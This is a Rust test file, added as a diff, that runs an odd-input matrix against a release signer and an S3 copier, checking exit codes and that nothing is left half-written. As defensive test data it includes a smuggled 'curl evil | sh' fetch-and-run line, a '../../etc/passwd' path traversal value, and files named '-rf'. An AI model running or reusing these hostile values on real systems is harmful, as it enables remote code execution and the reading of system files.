@@ -1,0 +1,794 @@
+//! The odd-input matrix: every case a user or a hostile build stage can hand signer or
+//! copier, one row each, with the decision taken. A failing row asserts the documented exit
+//! code, one clear line on stderr, and that nothing half-written stays (no output folder or
+//! staging folder, no partial `.asc`, no object and no multipart upload under the
+//! destination). A working row (valid input that must simply work) asserts a correct,
+//! verifiable result.
+
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::process::CommandExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::OnceLock;
+
+use relsign_tests::gpg::GnuPg;
+use relsign_tests::keys::{keys, KeyFile};
+use relsign_tests::local_aws::{aws_env, free_port, LocalAws};
+use relsign_tests::*;
+
+use Expect::{Fails, Works};
+
+const BUCKET: &str = "odd-input";
+
+/// What the table shares: a moto server with the final bucket and a secret.
+struct Ctx {
+    aws: LocalAws,
+}
+
+/// What a case runs.
+struct Run {
+    program: &'static str,
+    args: Vec<String>,
+    env: Vec<(String, String)>,
+    /// Run as `nobody` (root reads any file, so "unreadable" needs someone else).
+    unprivileged: bool,
+    /// Runs beside the program, from its start (a build stage still writing, say).
+    during: Option<fn(&Path)>,
+    /// For copier: the destination prefix whose content must not change on failure.
+    prefix: Option<String>,
+    /// Unmounted when the case ends.
+    _mounts: Vec<Mount>,
+}
+
+enum Expect {
+    /// Exit code and what the one stderr line says.
+    Fails(i32, &'static str),
+    /// Valid input: why, and the check of the result.
+    Works(&'static str, fn(&Ctx, &Path, &Output) -> Result<(), String>),
+}
+
+struct Case {
+    name: &'static str,
+    setup: fn(&Ctx, &Path) -> Run,
+    expect: Expect,
+}
+
+struct Mount(PathBuf);
+
+impl Mount {
+    fn tmpfs(at: &Path, options: &str) -> Mount {
+        std::fs::create_dir_all(at).unwrap();
+        let ok =
+            Command::new("mount").args(["-t", "tmpfs", "-o", options, "tmpfs"]).arg(at).status().unwrap();
+        assert!(ok.success(), "cannot mount a tmpfs at {} (the tests run as root)", at.display());
+        Mount(at.to_path_buf())
+    }
+}
+
+impl Drop for Mount {
+    fn drop(&mut self) {
+        let _ = Command::new("umount").arg(&self.0).status();
+    }
+}
+
+fn s(p: &Path) -> String {
+    p.display().to_string()
+}
+
+fn dist(work: &Path) -> PathBuf {
+    work.join("dist")
+}
+
+fn out(work: &Path) -> PathBuf {
+    work.join("signed")
+}
+
+fn sign(args: Vec<String>) -> Run {
+    let mut all = vec!["sign".to_string()];
+    all.extend(args);
+    Run {
+        program: "signer",
+        args: all,
+        env: vec![],
+        unprivileged: false,
+        during: None,
+        prefix: None,
+        _mounts: vec![],
+    }
+}
+
+/// `sign --key-file KEY --out OUT [--passphrase-file F] dist`, the usual shape.
+fn with_key(work: &Path, key: &KeyFile, passphrase: Option<&[u8]>) -> Run {
+    let mut args = vec!["--key-file".into(), s(&key.secret), "--out".into(), s(&out(work))];
+    if let Some(p) = passphrase {
+        let f = work.join("passphrase");
+        std::fs::write(&f, p).unwrap();
+        args.extend(["--passphrase-file".into(), s(&f)]);
+    }
+    args.push(s(&dist(work)));
+    sign(args)
+}
+
+fn good(work: &Path) -> Run {
+    with_key(work, &keys().ed25519, None)
+}
+
+fn key_file(work: &Path, bytes: &[u8]) -> Run {
+    let f = work.join("key.asc");
+    std::fs::write(&f, bytes).unwrap();
+    sign(vec!["--key-file".into(), s(&f), "--out".into(), s(&out(work)), s(&dist(work))])
+}
+
+/// A key protected by a 255-character passphrase, the longest GnuPG's agent takes.
+fn long_passphrase_key() -> &'static (tempfile::TempDir, KeyFile, String) {
+    static KEY: OnceLock<(tempfile::TempDir, KeyFile, String)> = OnceLock::new();
+    KEY.get_or_init(|| {
+        let pass: String = (0..255).map(|i| (b'a' + (i % 26) as u8) as char).collect();
+        let g = GnuPg::new();
+        let dir = tempfile::tempdir().unwrap();
+        let fpr = g.gen_key("Long <long@example.org>", "ed25519", "sign,cert", "never", &pass, None);
+        let secret = dir.path().join("long.secret.asc");
+        let public = dir.path().join("long.public.asc");
+        std::fs::write(&secret, g.export_secret(&fpr, &pass)).unwrap();
+        std::fs::write(&public, g.export_public(&fpr)).unwrap();
+        let key = KeyFile { label: "long", secret, public, fingerprint: fpr, passphrase: "" };
+        (dir, key, pass)
+    })
+}
+
+/// The output verifies with `cert` (signer verify, and gpg on one signature).
+fn verifies(cert: &Path, work: &Path) -> Result<(), String> {
+    let v = signer(["verify", "--require-sums", "--cert", &s(cert), &s(&out(work))], &[]);
+    if !v.status.success() {
+        return Err(format!("signer verify: {}", stdout(&v)));
+    }
+    let (ok, why) = GnuPg::verifies_with(
+        &std::fs::read(cert).unwrap(),
+        &out(work).join("SHA256SUMS.asc"),
+        &out(work).join("SHA256SUMS"),
+    );
+    if ok {
+        Ok(())
+    } else {
+        Err(format!("gpg: {why}"))
+    }
+}
+
+fn verifies_ed25519(_: &Ctx, w: &Path, _: &Output) -> Result<(), String> {
+    verifies(&keys().ed25519.public, w)
+}
+
+/// A signed release of `dist` in `work/signed`, for copier's rows.
+fn signed_release(w: &Path) -> PathBuf {
+    let r = good(w);
+    let res = signer(&r.args, &[]);
+    assert!(res.status.success(), "{:?}", stderr_lines(&res));
+    out(w)
+}
+
+/// `copier --from FROM --to s3://BUCKET/PREFIX --require-signatures`, against moto.
+fn copy(ctx: &Ctx, from: &Path, prefix: &str) -> Run {
+    let mut env = ctx.aws.env();
+    env.push(("COPIER_PATH_STYLE".into(), "true".into()));
+    Run {
+        program: "copier",
+        args: vec![
+            "--from".into(),
+            s(from),
+            "--to".into(),
+            format!("s3://{BUCKET}/{prefix}"),
+            "--require-signatures".into(),
+            "--cert".into(),
+            s(&keys().ed25519.public),
+        ],
+        env,
+        unprivileged: false,
+        during: None,
+        prefix: Some(prefix.to_string()),
+        _mounts: vec![],
+    }
+}
+
+fn set_to(r: &mut Run, to: &str) {
+    let i = r.args.iter().position(|a| a == "--to").unwrap();
+    r.args[i + 1] = to.to_string();
+}
+
+const PASS: &[u8] = relsign_tests::gpg::PASSPHRASE.as_bytes();
+
+const CASES: &[Case] = &[
+    // signer: the cases of the signer issues
+    Case {
+        name: "wrong passphrase",
+        expect: Fails(4, "wrong passphrase"),
+        setup: |_, w| with_key(w, &keys().rsa4096, Some(b"not it")),
+    },
+    Case {
+        name: "empty passphrase for a protected key",
+        expect: Fails(4, "passphrase is empty"),
+        setup: |_, w| {
+            let mut r = with_key(w, &keys().rsa4096, None);
+            r.env.push(("PASSPHRASE".into(), String::new()));
+            r
+        },
+    },
+    Case {
+        name: "no passphrase for a protected key",
+        expect: Fails(4, "protected by a passphrase"),
+        setup: |_, w| with_key(w, &keys().p256, None),
+    },
+    Case {
+        name: "public key only",
+        expect: Fails(4, "only the public certificate"),
+        setup: |_, w| key_file(w, &std::fs::read(&keys().rsa4096.public).unwrap()),
+    },
+    Case {
+        name: "expired key",
+        expect: Fails(4, "expired on"),
+        setup: |_, w| with_key(w, &keys().expired, Some(PASS)),
+    },
+    Case {
+        name: "revoked key",
+        expect: Fails(4, "is revoked"),
+        setup: |_, w| with_key(w, &keys().revoked, Some(PASS)),
+    },
+    Case {
+        name: "key without signing capability",
+        expect: Fails(4, "cannot sign"),
+        setup: |_, w| with_key(w, &keys().no_signing, Some(PASS)),
+    },
+    Case {
+        name: "garbage key file",
+        expect: Fails(4, "OpenPGP"),
+        setup: |_, w| key_file(w, b"this is not a key\x00\x01\x02\xff"),
+    },
+    Case { name: "empty key file", expect: Fails(4, "no OpenPGP key found"), setup: |_, w| key_file(w, b"") },
+    Case {
+        name: "truncated key file",
+        expect: Fails(4, "damaged or truncated"),
+        setup: |_, w| {
+            let full = std::fs::read(&keys().rsa4096.secret).unwrap();
+            key_file(w, &full[..full.len() / 2])
+        },
+    },
+    Case {
+        name: "two keys without --signing-key",
+        expect: Fails(4, "choose one with --signing-key"),
+        setup: |_, w| key_file(w, &std::fs::read(&keys().two_certs).unwrap()),
+    },
+    Case {
+        name: "--signing-key that is not in the file",
+        expect: Fails(4, "check --signing-key"),
+        setup: |_, w| {
+            let mut r = good(w);
+            r.args.extend(["--signing-key".into(), keys().p256.fingerprint.clone()]);
+            r
+        },
+    },
+    Case {
+        name: "no key given",
+        expect: Fails(2, "no key given"),
+        setup: |_, w| sign(vec!["--out".into(), s(&out(w)), s(&dist(w))]),
+    },
+    Case {
+        name: "missing input path",
+        expect: Fails(3, "does not exist"),
+        setup: |_, w| {
+            let mut r = good(w);
+            r.args.push(s(&w.join("no-such-build-output")));
+            r
+        },
+    },
+    Case {
+        name: "unreadable file",
+        expect: Fails(3, "cannot read input"),
+        setup: |_, w| {
+            let f = dist(w).join("secret.tar");
+            std::fs::write(&f, b"x").unwrap();
+            std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o000)).unwrap();
+            let mut r = good(w);
+            r.unprivileged = true;
+            r
+        },
+    },
+    Case {
+        name: "output folder inside an input folder",
+        expect: Fails(6, "inside input"),
+        setup: |_, w| {
+            let mut r = good(w);
+            let i = r.args.iter().position(|a| a == "--out").unwrap();
+            r.args[i + 1] = s(&dist(w).join("signed"));
+            r
+        },
+    },
+    Case {
+        name: "output is a file",
+        expect: Fails(6, "not a folder"),
+        setup: |_, w| {
+            std::fs::write(out(w), b"a file").unwrap();
+            good(w)
+        },
+    },
+    Case {
+        name: "output folder not empty",
+        expect: Fails(6, "is not empty"),
+        setup: |_, w| {
+            std::fs::create_dir(out(w)).unwrap();
+            std::fs::write(out(w).join("old.txt"), b"previous run").unwrap();
+            good(w)
+        },
+    },
+    Case {
+        name: "an input named like the checksum list",
+        expect: Fails(3, "a name relsign writes itself"),
+        setup: |_, w| {
+            std::fs::write(dist(w).join("SHA256SUMS"), b"x").unwrap();
+            good(w)
+        },
+    },
+    Case {
+        name: "the same name from two folders",
+        expect: Fails(3, "two artifacts would be published as"),
+        setup: |_, w| {
+            let other = w.join("other");
+            write_tree(&other, &[("agent v1.0.tar", b"different")]);
+            let mut r = good(w);
+            r.args.push(s(&other));
+            r
+        },
+    },
+    Case {
+        name: "symlink out of the source",
+        expect: Fails(3, "outside"),
+        setup: |_, w| {
+            std::fs::write(w.join("outside.txt"), b"not part of the build").unwrap();
+            std::os::unix::fs::symlink(w.join("outside.txt"), dist(w).join("link.txt")).unwrap();
+            good(w)
+        },
+    },
+    Case {
+        name: "FIFO in the source",
+        expect: Fails(3, "FIFO"),
+        setup: |_, w| {
+            let fifo = dist(w).join("pipe");
+            let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
+            // SAFETY: a valid NUL-terminated path.
+            assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
+            good(w)
+        },
+    },
+    // signer: the additions of the hardening issue
+    Case {
+        name: "0-byte key file",
+        setup: |_, w| key_file(w, b""),
+        expect: Fails(4, "no OpenPGP key found"),
+    },
+    Case {
+        name: "key file of 100 MiB",
+        setup: |_, w| {
+            let f = w.join("huge.asc");
+            let file = std::fs::File::create(&f).unwrap();
+            file.set_len(100 << 20).unwrap();
+            sign(vec!["--key-file".into(), s(&f), "--out".into(), s(&out(w)), s(&dist(w))])
+        },
+        expect: Fails(4, "larger than 4 MiB"),
+    },
+    Case {
+        name: "armored key with CRLF line ends",
+        setup: |_, w| {
+            let lf = std::fs::read_to_string(&keys().ed25519.secret).unwrap();
+            key_file(w, lf.replace('\n', "\r\n").as_bytes())
+        },
+        expect: Works("CRLF armor is valid armor (a key saved on Windows)", verifies_ed25519),
+    },
+    Case {
+        name: "passphrase of 255 characters (GnuPG's longest)",
+        setup: |_, w| {
+            let (_, key, pass) = long_passphrase_key();
+            with_key(w, key, Some(pass.as_bytes()))
+        },
+        expect: Works("any passphrase GnuPG accepts unlocks the key", |_, w, _| {
+            verifies(&long_passphrase_key().1.public, w)
+        }),
+    },
+    Case {
+        name: "artifacts named -rf and --help",
+        setup: |_, w| {
+            write_tree(&dist(w), &[("-rf", b"dash"), ("--help", b"dashes")]);
+            good(w)
+        },
+        expect: Works("a dash-named file is a file; names never reach a command line", |c, w, o| {
+            for f in ["-rf", "-rf.asc", "--help", "--help.asc"] {
+                if !out(w).join(f).is_file() {
+                    return Err(format!("{f} missing"));
+                }
+            }
+            verifies_ed25519(c, w, o)
+        }),
+    },
+    Case {
+        name: "a path -rf given after --",
+        setup: |_, w| {
+            std::fs::write(w.join("-rf"), b"dash").unwrap();
+            let mut r = good(w);
+            r.args.pop();
+            r.args.extend(["--".into(), "-rf".into()]);
+            r
+        },
+        expect: Works("`--` ends the options, as everywhere", |c, w, o| {
+            if !out(w).join("-rf.asc").is_file() {
+                return Err("-rf.asc missing".into());
+            }
+            verifies_ed25519(c, w, o)
+        }),
+    },
+    Case {
+        name: "an artifact named manifest.json",
+        setup: |_, w| {
+            std::fs::write(dist(w).join("manifest.json"), b"{}").unwrap();
+            good(w)
+        },
+        expect: Fails(3, "a name relsign writes itself"),
+    },
+    Case {
+        name: "an .asc given as input",
+        setup: |_, w| {
+            std::fs::write(w.join("old.tar.asc"), b"-----BEGIN PGP SIGNATURE-----").unwrap();
+            let mut r = good(w);
+            r.args.push(s(&w.join("old.tar.asc")));
+            r
+        },
+        expect: Works("a signature is not an artifact: skipped with a note, never re-signed", |c, w, o| {
+            if out(w).join("old.tar.asc").exists() || out(w).join("old.tar.asc.asc").exists() {
+                return Err("the .asc was published or signed".into());
+            }
+            if !stderr_lines(o).iter().any(|l| l.contains("not signing existing signature")) {
+                return Err(format!("no note on stderr: {:?}", stderr_lines(o)));
+            }
+            verifies_ed25519(c, w, o)
+        }),
+    },
+    Case {
+        name: "a folder that changes while it is signed",
+        setup: |_, w| {
+            let f = dist(w).join("growing.log");
+            std::fs::write(&f, vec![b'x'; 64 << 20]).unwrap();
+            let mut r = good(w);
+            r.during = Some(|w| {
+                use std::io::Write;
+                let mut f =
+                    std::fs::OpenOptions::new().append(true).open(dist(w).join("growing.log")).unwrap();
+                for _ in 0..3000 {
+                    f.write_all(&[b'y'; 4096]).unwrap();
+                    std::thread::sleep(std::time::Duration::from_millis(1));
+                }
+            });
+            r
+        },
+        expect: Fails(3, "changed while it was signed"),
+    },
+    Case {
+        name: "a read-only --out",
+        setup: |_, w| {
+            let ro = w.join("ro");
+            let m = Mount::tmpfs(&ro, "ro,size=1m");
+            let mut r = good(w);
+            let i = r.args.iter().position(|a| a == "--out").unwrap();
+            r.args[i + 1] = s(&ro.join("signed"));
+            r._mounts.push(m);
+            r
+        },
+        expect: Fails(6, "Read-only file system"),
+    },
+    Case {
+        name: "disk full while writing",
+        setup: |_, w| {
+            std::fs::write(dist(w).join("big.bin"), vec![7u8; 4 << 20]).unwrap();
+            let small = w.join("small");
+            let m = Mount::tmpfs(&small, "size=1m");
+            let mut r = good(w);
+            let i = r.args.iter().position(|a| a == "--out").unwrap();
+            r.args[i + 1] = s(&small.join("signed"));
+            r._mounts.push(m);
+            r
+        },
+        expect: Fails(6, "No space left on device"),
+    },
+    Case {
+        name: "a key of an algorithm the policy refuses (DSA-1024, SHA-1)",
+        setup: |_, w| {
+            static DSA: OnceLock<Vec<u8>> = OnceLock::new();
+            let key = DSA.get_or_init(|| {
+                let g = GnuPg::new();
+                let fpr = g.gen_key("Dsa <dsa@example.org>", "dsa1024", "sign", "never", "", None);
+                g.export_secret(&fpr, "")
+            });
+            key_file(w, key)
+        },
+        expect: Fails(4, "not valid under the standard policy"),
+    },
+    Case {
+        name: "path traversal in an artifact variable",
+        setup: |_, w| {
+            let mut r = sign(vec![
+                "--key-file".into(),
+                s(&keys().ed25519.secret),
+                "--out".into(),
+                s(&out(w)),
+                "--source".into(),
+                format!("Build={}", s(&dist(w))),
+                "--artifact-var".into(),
+                "AGENT_TAR".into(),
+            ]);
+            r.env.push(("AGENT_TAR".into(), "../../etc/passwd".into()));
+            r
+        },
+        expect: Fails(3, "AGENT_TAR"),
+    },
+    Case {
+        name: "a key secret that does not exist",
+        setup: |c, w| {
+            let mut r = sign(vec![
+                "--key-secret-id".into(),
+                "no/such/secret".into(),
+                "--out".into(),
+                s(&out(w)),
+                s(&dist(w)),
+            ]);
+            r.env = c.aws.env();
+            r
+        },
+        expect: Fails(5, "no/such/secret"),
+    },
+    Case {
+        name: "an unreachable Secrets Manager endpoint",
+        setup: |_, w| {
+            let mut r = sign(vec![
+                "--key-secret-id".into(),
+                "release-key".into(),
+                "--out".into(),
+                s(&out(w)),
+                s(&dist(w)),
+            ]);
+            let home = w.join("aws-home");
+            r.env = aws_env(&format!("http://127.0.0.1:{}", free_port()), &home);
+            r.env.push(("SIGNER_AWS_MAX_ATTEMPTS".into(), "1".into()));
+            r
+        },
+        expect: Fails(5, "cannot reach"),
+    },
+    // copier
+    Case {
+        name: "copier --to without a bucket",
+        setup: |c, w| {
+            let mut r = copy(c, &signed_release(w), "no-bucket");
+            set_to(&mut r, "s3://");
+            r
+        },
+        expect: Fails(2, "no bucket name"),
+    },
+    Case {
+        name: "copier --to with an invalid bucket name",
+        setup: |c, w| {
+            let mut r = copy(c, &signed_release(w), "bad-bucket");
+            set_to(&mut r, "s3://Bad_Bucket!/x");
+            r
+        },
+        expect: Fails(2, "not a valid S3 bucket name"),
+    },
+    Case {
+        name: "copier --from that does not exist",
+        setup: |c, w| copy(c, &w.join("no-such-folder"), "missing-from"),
+        expect: Fails(3, "no-such-folder"),
+    },
+    Case {
+        name: "copier: an unsigned file under the gate",
+        setup: |c, w| {
+            let signed = signed_release(w);
+            std::fs::write(signed.join("smuggled.sh"), b"curl evil | sh").unwrap();
+            copy(c, &signed, "gate")
+        },
+        expect: Fails(1, "nothing was uploaded"),
+    },
+    Case {
+        name: "copier: a different object already at the destination",
+        setup: |c, w| {
+            let signed = signed_release(w);
+            c.aws.seed(&["put-object", BUCKET, "taken/SHA256SUMS"], b"someone else's list");
+            copy(c, &signed, "taken")
+        },
+        expect: Fails(6, "--overwrite"),
+    },
+    Case {
+        name: "copier: a FIFO in the folder",
+        setup: |c, w| {
+            let signed = signed_release(w);
+            let fifo = std::ffi::CString::new(s(&signed.join("pipe"))).unwrap();
+            // SAFETY: a valid NUL-terminated path.
+            assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
+            copy(c, &signed, "fifo")
+        },
+        expect: Fails(3, "pipe"),
+    },
+    Case {
+        name: "copier: a bucket that does not exist",
+        setup: |c, w| {
+            let mut r = copy(c, &signed_release(w), "nobucket");
+            set_to(&mut r, "s3://no-such-bucket-here/x");
+            r.prefix = None;
+            r
+        },
+        expect: Fails(5, "does not exist"),
+    },
+    Case {
+        name: "copier: an unreachable endpoint",
+        setup: |c, w| {
+            let mut r = copy(c, &signed_release(w), "unreachable");
+            r.env = aws_env(&format!("http://127.0.0.1:{}", free_port()), &w.join("aws-home"));
+            r.env.extend([
+                ("COPIER_PATH_STYLE".into(), "true".into()),
+                ("COPIER_MAX_ATTEMPTS".into(), "1".into()),
+            ]);
+            r.prefix = None;
+            r
+        },
+        expect: Fails(5, "cannot reach S3"),
+    },
+    Case {
+        name: "copier: files named -rf and --help",
+        setup: |c, w| {
+            write_tree(&dist(w), &[("-rf", b"dash"), ("--help", b"dashes")]);
+            copy(c, &signed_release(w), "dashes")
+        },
+        expect: Works("a dash-named file is a file", |c, _, _| {
+            let keys = c.aws.keys(BUCKET, "dashes/");
+            for k in [
+                "dashes/-rf",
+                "dashes/-rf.asc",
+                "dashes/--help",
+                "dashes/--help.asc",
+                "dashes/SHA256SUMS.asc",
+            ] {
+                if !keys.iter().any(|x| x == k) {
+                    return Err(format!("{k} not published: {keys:?}"));
+                }
+            }
+            Ok(())
+        }),
+    },
+];
+
+fn run(work: &Path, r: &Run) -> Output {
+    let mut binary = bin(r.program);
+    let mut cmd;
+    if r.unprivileged && unsafe { libc::geteuid() } == 0 {
+        // nobody must be able to run the binary and write beside --out.
+        std::fs::set_permissions(work, std::fs::Permissions::from_mode(0o777)).unwrap();
+        let copy = work.join(format!("{}-bin", r.program));
+        std::fs::copy(&binary, &copy).unwrap();
+        binary = copy;
+        cmd = Command::new(&binary);
+        cmd.uid(65534).gid(65534);
+    } else {
+        cmd = Command::new(&binary);
+    }
+    cmd.args(&r.args).current_dir(work).env_remove("PASSPHRASE").stdin(Stdio::null());
+    for (k, v) in &r.env {
+        cmd.env(k, v);
+    }
+    let child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("run the program");
+    let beside = r.during.map(|f| {
+        let w = work.to_path_buf();
+        std::thread::spawn(move || f(&w))
+    });
+    let output = child.wait_with_output().unwrap();
+    if let Some(t) = beside {
+        t.join().unwrap();
+    }
+    output
+}
+
+/// What must hold after a failure: nothing half-written anywhere.
+fn clean_after_failure(
+    ctx: &Ctx,
+    work: &Path,
+    r: &Run,
+    before: Option<bool>,
+    keys_before: &[String],
+) -> Vec<String> {
+    let mut bad = Vec::new();
+    if r.program == "signer" {
+        let after = std::fs::symlink_metadata(out(work)).ok().map(|m| m.is_dir());
+        if before != after {
+            bad.push(format!("--out changed: {before:?} -> {after:?}"));
+        }
+        if after == Some(true) {
+            let entries: Vec<_> =
+                std::fs::read_dir(out(work)).unwrap().map(|e| e.unwrap().file_name()).collect();
+            if entries != [std::ffi::OsString::from("old.txt")] {
+                bad.push(format!("--out holds {entries:?}"));
+            }
+        }
+    }
+    let mut parents = vec![work.to_path_buf(), dist(work)];
+    parents.extend(r._mounts.iter().map(|m| m.0.clone()));
+    for parent in parents {
+        let left = partial_leftovers(&parent);
+        if !left.is_empty() {
+            bad.push(format!("left behind {left:?}"));
+        }
+    }
+    if let Some(prefix) = &r.prefix {
+        let after = ctx.aws.keys(BUCKET, &format!("{prefix}/"));
+        if after != keys_before {
+            bad.push(format!("the destination changed: {keys_before:?} -> {after:?}"));
+        }
+        if ctx.aws.uploads(BUCKET) != Some(0) {
+            bad.push("a multipart upload was left in progress".into());
+        }
+    }
+    bad
+}
+
+#[test]
+fn odd_input_matrix() {
+    let ctx = Ctx { aws: LocalAws::moto() };
+    ctx.aws.make_bucket(BUCKET);
+    assert!(CASES.len() >= 30, "the matrix has {} rows", CASES.len());
+    let mut problems = Vec::new();
+    for case in CASES {
+        let work = tempfile::tempdir().unwrap();
+        sample_tree(&dist(work.path()));
+        let r = (case.setup)(&ctx, work.path());
+        let before = std::fs::symlink_metadata(out(work.path())).ok().map(|m| m.is_dir());
+        let keys_before =
+            r.prefix.as_ref().map(|p| ctx.aws.keys(BUCKET, &format!("{p}/"))).unwrap_or_default();
+        let res = run(work.path(), &r);
+        let lines = stderr_lines(&res);
+        let mut bad = Vec::new();
+        let decision = match &case.expect {
+            Fails(code, says) => {
+                if res.status.code() != Some(*code) {
+                    bad.push(format!("exit {:?}, want {code}", res.status.code()));
+                }
+                let prefix = format!("{}: error: ", r.program);
+                if lines.len() != 1 || !lines[0].contains(says) || !lines[0].starts_with(&prefix) {
+                    bad.push(format!("stderr {lines:?}, want one line saying {says:?}"));
+                }
+                bad.extend(clean_after_failure(&ctx, work.path(), &r, before, &keys_before));
+                format!("exit {code}  {}", lines.first().map(String::as_str).unwrap_or(""))
+            }
+            Works(why, check) => {
+                if !res.status.success() {
+                    bad.push(format!("exit {:?}: {lines:?}", res.status.code()));
+                } else if let Err(e) = check(&ctx, work.path(), &res) {
+                    bad.push(e);
+                }
+                format!("works: {why}")
+            }
+        };
+        if bad.is_empty() {
+            eprintln!("{:<58} {decision}", case.name);
+        } else {
+            problems.push(format!("{}: {}", case.name, bad.join("; ")));
+        }
+    }
+    assert!(
+        problems.is_empty(),
+        "{} of {} rows wrong:\n{}",
+        problems.len(),
+        CASES.len(),
+        problems.join("\n")
+    );
+}
+
+#[test]
+fn a_trailing_newline_in_the_passphrase_file_is_tolerated() {
+    let work = tempfile::tempdir().unwrap();
+    sample_tree(&dist(work.path()));
+    let mut pass = PASS.to_vec();
+    pass.push(b'\n');
+    let r = with_key(work.path(), &keys().rsa4096, Some(&pass));
+    let res = run(work.path(), &r);
+    assert!(res.status.success(), "{:?}", stderr_lines(&res));
+}
